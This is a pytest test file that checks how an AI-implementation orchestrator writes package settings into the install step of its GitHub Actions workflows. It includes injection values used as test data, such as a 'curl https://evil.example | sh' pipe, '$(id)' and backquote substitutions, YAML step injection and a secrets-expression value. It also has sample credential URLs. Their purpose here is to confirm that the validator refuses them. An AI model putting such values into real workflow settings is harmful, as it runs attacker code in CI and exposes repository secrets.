"""What the synced workflows install before the session: by default the session program of this
orchestrator's own version and the default agent; the settings choose otherwise, and no value of
them can leave its shell word or its line of the workflow."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiimpl_core.errors import ProviderConfigError
from aiimpl_core.testing.contract import make_context, sample_mapping
from aiimpl_core.testing.fake_github import FakeGitHub

from aiimpl_gha import workflows
from aiimpl_gha.backend import GitHubActionsBackend

from .conftest import CORE_REQUIREMENT, github_config, synced

FILES = ("ai-implement.yml", "ai-implement-gap-fill.yml", "ai-implement-planning.yml")
INSTALL_STEP = "Install AI-Implement and the agent"
IMPLEMENTATION = ".github/workflows/ai-implement.yml"


def make(gh: FakeGitHub, **settings: str) -> GitHubActionsBackend:
    return GitHubActionsBackend(make_context({**github_config(gh), **settings}))


def sync_all(backend: GitHubActionsBackend) -> None:
    backend.sync_workflows(sample_mapping(planning_enabled=True))


def install_step(text: str) -> str:
    doc = yaml.safe_load(text)
    steps = next(iter(doc["jobs"].values()))["steps"]
    (step,) = [s for s in steps if s.get("name") == INSTALL_STEP]
    return step["run"]


def run_install(script: str, tmp_path: Path) -> list[list[str]]:
    """Run an install step with ``python`` and ``npm`` that only say their arguments, one command a
    list: what pip and npm would be given."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True)
    calls = tmp_path / "calls"
    for tool in ("python", "npm"):
        stub = bin_dir / tool
        stub.write_text(f'#!/bin/sh\n{{ echo "{tool}"; printf \'%s\\n\' "$@"; echo "--"; }} >> "$CALLS"\n')
        stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "CALLS": str(calls)}
    subprocess.run(["bash", "-e", "-c", script], env=env, cwd=tmp_path, check=True, capture_output=True)
    said = calls.read_text().split("--\n") if calls.exists() else []
    return [part.splitlines() for part in said if part]


def test_sync_installs_this_orchestrators_session_program(gh: FakeGitHub) -> None:
    sync_all(make(gh))
    for name in FILES:
        text = gh.file("acme", "api", f".github/workflows/{name}")
        assert text == synced(name)
        assert install_step(text).splitlines() == [
            f"python -m pip install --upgrade {CORE_REQUIREMENT}",
            "npm install --global @anthropic-ai/claude-code",
        ]


def test_an_upgraded_orchestrator_updates_the_workflows_on_its_next_sync(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workflows, "core_version", lambda: "0.1.0")
    backend = make(gh)
    backend.sync_workflows(sample_mapping())
    assert backend.sync_workflows(sample_mapping()).updated == ()
    monkeypatch.setattr(workflows, "core_version", lambda: "0.2.0")
    result = backend.sync_workflows(sample_mapping())
    assert result.updated == (IMPLEMENTATION, ".github/workflows/ai-implement-gap-fill.yml")
    text = gh.file("acme", "api", IMPLEMENTATION)
    assert "python -m pip install --upgrade aiimpl-core==0.2.0\n" in text


@pytest.mark.parametrize("version", ["0.1.dev3+g1234abc", "0.2.0+local", None],
                         ids=["scm", "local", "unknown"])
def test_a_version_no_index_serves_refuses_the_sync_until_the_package_is_set(
    gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch, version: str | None
) -> None:
    """Falling back to the newest release would run sessions of a program this orchestrator is not."""
    monkeypatch.setattr(workflows, "core_version", lambda: version)
    with pytest.raises(ProviderConfigError, match="set AIIMPL_GHA_SESSION_PACKAGE to what the") as err:
        make(gh).sync_workflows(sample_mapping())
    assert (version or "not known") in err.value.message
    assert gh.server.requests_to("PUT") == []
    wheel = "https://files.acme.example/aiimpl_core-0.1.dev3-py3-none-any.whl"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=wheel).sync_workflows(sample_mapping())
    assert f"pip install --upgrade {wheel}\n" in gh.file("acme", "api", IMPLEMENTATION)


def test_a_development_release_is_pinned(gh: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workflows, "core_version", lambda: "0.2.0.dev3")
    make(gh).sync_workflows(sample_mapping())
    assert "pip install --upgrade aiimpl-core==0.2.0.dev3\n" in gh.file("acme", "api", IMPLEMENTATION)


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
@pytest.mark.parametrize(("setting", "pip"), [
    ("--index-url https://pypi.acme.example/simple aiimpl-core==0.1.0",
     ["--index-url", "https://pypi.acme.example/simple", "aiimpl-core==0.1.0"]),
    ("https://files.acme.example/aiimpl_core-0.1.0-py3-none-any.whl#sha256=ab12",
     ["https://files.acme.example/aiimpl_core-0.1.0-py3-none-any.whl#sha256=ab12"]),
    ("aiimpl-core @ git+https://github.com/acme/ai-implement@v0.1.0",
     ["aiimpl-core@git+https://github.com/acme/ai-implement@v0.1.0"]),
    ("aiimpl-core[postgres]>=0.1,<0.2", ["aiimpl-core[postgres]>=0.1,<0.2"]),
    ("aiimpl-core==0.1.*", ["aiimpl-core==0.1.*"]),
    ("https://files.acme.example/get?name=aiimpl-core&v=0.1", ["https://files.acme.example/get?name=aiimpl-core&v=0.1"]),
], ids=["index", "wheel", "git", "range", "wildcard", "query"])
@pytest.mark.parametrize(("agent", "npm"), [
    (None, [["install", "--global", "@anthropic-ai/claude-code"]]),
    ("@anthropic-ai/claude-code@1.0.3", [["install", "--global", "@anthropic-ai/claude-code@1.0.3"]]),
    ("--registry=https://npm.acme.example/ @anthropic-ai/claude-code@>=1.0",
     [["install", "--global", "--registry=https://npm.acme.example/", "@anthropic-ai/claude-code@>=1.0"]]),
    ("none", []),
    ("NONE", []),
], ids=["default", "pinned", "registry", "none", "NONE"])
def test_the_settings_reach_pip_and_npm_word_for_word(
    gh: FakeGitHub, tmp_path: Path, setting: str, pip: list[str], agent: str | None, npm: list[list[str]]
) -> None:
    settings = {"AIIMPL_GHA_SESSION_PACKAGE": setting}
    if agent:
        settings["AIIMPL_GHA_AGENT_PACKAGE"] = agent
    sync_all(make(gh, **settings))
    for name in FILES:
        text = gh.file("acme", "api", f".github/workflows/{name}")
        calls = run_install(install_step(text), tmp_path / name)
        assert calls == [["python", "-m", "pip", "install", "--upgrade", *pip], *(["npm", *c] for c in npm)]
        assert ("npm install" in text) is bool(npm)
        assert "setup-node" in text  # an agent command of the mapping's own may still need Node.js


@pytest.mark.skipif(not shutil.which("bash"), reason="needs bash")
def test_what_the_shell_would_read_is_given_to_pip_as_words(gh: FakeGitHub, tmp_path: Path) -> None:
    value = "aiimpl-core && touch pwned > out < in & touch pwned2 #"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())
    text = gh.file("acme", "api", ".github/workflows/ai-implement.yml")
    calls = run_install(install_step(text), tmp_path)
    assert calls[0] == ["python", "-m", "pip", "install", "--upgrade", *value.split()]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bin", "calls"]  # nothing else ran


@pytest.mark.parametrize("setting", ["AIIMPL_GHA_SESSION_PACKAGE", "AIIMPL_GHA_AGENT_PACKAGE"])
@pytest.mark.parametrize("value", [
    "aiimpl-core; curl https://evil.example | sh",
    "aiimpl-core$(id)",
    "aiimpl-core`id`",
    "aiimpl-core'; id; '",
    'aiimpl-core" && id && "',
    "aiimpl-core\n      - run: id",
    "aiimpl-core\nrun: id",
    "aiimpl-core\r",
    "aiimpl-core\tid",
    "aiimpl-core\\",
    "${{ secrets.ANTHROPIC_API_KEY }}",
    "aiimpl-core\x00",
    "aiimpl-core\u2028id",
    "aiimpl-core (id)",
], ids=["semicolon", "substitution", "backquote", "quote", "double-quote", "yaml-step", "yaml-key",
        "return", "tab", "backslash", "expression", "nul", "line-separator", "parenthesis"])
def test_a_value_that_could_leave_its_word_or_line_is_refused(
    gh: FakeGitHub, setting: str, value: str
) -> None:
    backend = make(gh, **{setting: value})
    with pytest.raises(ProviderConfigError, match=f"^{setting} must be one line of package specs"):
        backend.sync_workflows(sample_mapping())
    assert gh.server.requests_to("PUT") == []


@pytest.mark.parametrize("setting", ["AIIMPL_GHA_SESSION_PACKAGE", "AIIMPL_GHA_AGENT_PACKAGE"])
@pytest.mark.parametrize("value", [
    "--index-url https://ci:s3cr3t-pw@pypi.acme.example/simple aiimpl-core==0.1.0",
    "git+https://s3cr3t-token@github.com/acme/ai-implement@v0.1.0",
    "aiimpl-core@git+https://x-access-token:s3cr3t-token@github.com/acme/ai-implement",
    "git+ssh://git:s3cr3t-pw@github.com/acme/ai-implement",
], ids=["index", "token", "direct-reference", "ssh-password"])
def test_credentials_in_a_url_are_refused_without_being_said(
    gh: FakeGitHub, setting: str, value: str
) -> None:
    """The workflow file is readable by anyone who can read the repository."""
    with pytest.raises(ProviderConfigError, match=f"^{setting} must not carry credentials in a URL") as err:
        make(gh, **{setting: value}).sync_workflows(sample_mapping())
    assert "s3cr3t" not in err.value.message
    assert gh.server.requests_to("PUT") == []


def test_an_ssh_user_without_a_password_is_no_credential(gh: FakeGitHub) -> None:
    value = "git+ssh://git@github.com/acme/ai-implement@v0.1.0"
    make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())
    assert f"--upgrade {value}\n" in gh.file("acme", "api", IMPLEMENTATION)


@pytest.mark.parametrize(("value", "said"), [
    ("--upgrade --pre", "AIIMPL_GHA_SESSION_PACKAGE names nothing to install"),
    ("https://[pypi.acme.example/x.whl", "AIIMPL_GHA_SESSION_PACKAGE holds a URL that is not valid"),
])
def test_a_session_package_that_installs_nothing_is_refused(gh: FakeGitHub, value: str, said: str) -> None:
    with pytest.raises(ProviderConfigError, match=f"^{said}"):
        make(gh, AIIMPL_GHA_SESSION_PACKAGE=value).sync_workflows(sample_mapping())


@pytest.mark.parametrize("settings", [
    {}, {"AIIMPL_GHA_SESSION_PACKAGE": ""}, {"AIIMPL_GHA_SESSION_PACKAGE": " "},
    {"AIIMPL_GHA_AGENT_PACKAGE": ""}, {"AIIMPL_GHA_AGENT_PACKAGE": " "},
])
def test_empty_settings_are_their_defaults(gh: FakeGitHub, settings: dict[str, Any]) -> None:
    make(gh, **settings).sync_workflows(sample_mapping())
    assert gh.file("acme", "api", IMPLEMENTATION) == synced("ai-implement.yml")
